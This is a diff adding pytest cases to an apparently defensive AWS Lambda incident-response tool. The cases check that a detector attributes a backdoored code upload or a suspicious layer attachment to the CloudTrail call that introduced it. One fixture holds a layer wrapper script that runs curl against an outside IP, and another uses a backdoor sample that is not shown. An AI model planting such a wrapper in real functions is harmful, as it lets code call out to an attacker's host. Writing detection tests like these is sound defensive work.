@@ -15,9 +15,13 @@ from lambda_ir.model import Severity
 from tests.analyze.casebuild import (
     ACCOUNT,
     REGION,
+    TERRAFORM,
     CaseBuilder,
+    code_sha256,
     function_config,
+    role_identity,
     run_detector,
+    trail_event,
     zip_bytes,
 )
 
@@ -231,6 +235,85 @@ def test_gained_capabilities_fire_naming_lines(builder: CaseBuilder) -> None:
     missing = _run(builder, cap_role_missing.DETECTOR)
     assert len(missing) == 1 and "iam:UpdateAssumeRolePolicy" in missing[0].summary
     assert missing[0].severity is Severity.MEDIUM
+
+
+def _releases(last_from: str, last_agent: str) -> list[dict]:
+    """CI's ten days of releasing `notifier` at 10:00 from its runners with Terraform; the
+    tenth uploads version 2's code (its CodeSha256) from `last_from` with `last_agent`."""
+    backdoor = code_sha256(zip_bytes({"app.py": BACKDOOR_PY, "README.txt": "docs"}))
+    return [
+        trail_event(
+            "UpdateFunctionCode20150331v2",
+            {"functionName": "notifier", "publish": True},
+            response={"codeSha256": backdoor if day == 10 else f"sha-{day}"},
+            identity=role_identity("ci", f"run-{day}"),
+            event_id=f"r{day:02d}",
+            time=f"2026-10-{day:02d}T10:00:00Z",
+            user_agent=last_agent if day == 10 else TERRAFORM,
+            source_ip=last_from if day == 10 else "192.0.2.10",
+        )
+        for day in range(1, 11)
+    ]
+
+
+def test_a_gain_uploaded_off_the_paths_is_its_uploaders_act(builder: CaseBuilder) -> None:
+    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
+    builder.trail(_releases("203.0.113.9", "aws-cli/2.15.0 Python/3.11"))
+    (finding,) = _run(builder, cap_gained.DETECTOR)
+    assert finding.severity is Severity.HIGH
+    assert finding.actor is not None and finding.actor.arn.endswith("assumed-role/ci/run-10")
+    assert finding.time == "2026-10-10T10:00:00Z" and finding.details["event_id"] == "r10"
+    assert "Brought in by arn:aws:sts::" in finding.summary
+    assert "UpdateFunctionCode at 2026-10-10T10:00:00Z" in finding.summary
+    code, upload = finding.evidence
+    assert code.member == "app.py" and upload.path.startswith("trail/")
+
+
+def test_a_layer_gain_is_the_act_of_the_call_that_attached_the_layer(
+    builder: CaseBuilder,
+) -> None:
+    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:hooks:3"
+    builder.layer(
+        layer_arn, zip_bytes({"bin/wrapper": "#!/bin/sh\ncurl -s http://198.51.100.9/x\n"})
+    )
+    blob = zip_bytes({"app.py": READER_PY})
+    builder.code(blob, "mixed", "1")
+    builder.code(blob, "mixed", "2")
+    builder.versions(
+        "mixed",
+        [
+            function_config("mixed", "1", code=blob, role=ROLE_ARN),
+            function_config("mixed", "2", code=blob, role=ROLE_ARN, layers=[layer_arn]),
+        ],
+    )
+    calls = [  # the CI's timeout changes, then someone's layer from a new network at night
+        trail_event(
+            "UpdateFunctionConfiguration20150331v2",
+            {"functionName": "mixed", "layers": [layer_arn]} if day == 10 else
+            {"functionName": "mixed", "timeout": 30},
+            identity=role_identity("ci", f"run-{day}"),
+            event_id=f"c{day:02d}",
+            time=f"2026-10-{day:02d}T{'03' if day == 10 else '10'}:00:00Z",
+            user_agent=TERRAFORM,
+            source_ip="203.0.113.9" if day == 10 else "192.0.2.10",
+        )
+        for day in range(1, 11)
+    ]  # fmt: skip
+    builder.trail(calls)
+    (finding,) = _run(builder, cap_gained.DETECTOR)
+    assert finding.resource.endswith("function:mixed:2") and finding.severity is Severity.HIGH
+    assert finding.details["event_id"] == "c10" and finding.time == "2026-10-10T03:00:00Z"
+    assert "UpdateFunctionConfiguration at 2026-10-10T03:00:00Z" in finding.summary
+
+
+def test_a_gain_released_along_the_established_path_stays_exposure(
+    builder: CaseBuilder,
+) -> None:
+    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
+    builder.trail(_releases("192.0.2.10", TERRAFORM))
+    (finding,) = _run(builder, cap_gained.DETECTOR)
+    assert finding.severity is Severity.HIGH and finding.actor is None and finding.time is None
+    assert "Brought in" not in finding.summary and "event_id" not in finding.details
 
 
 def test_benign_reader_is_quiet(builder: CaseBuilder) -> None:
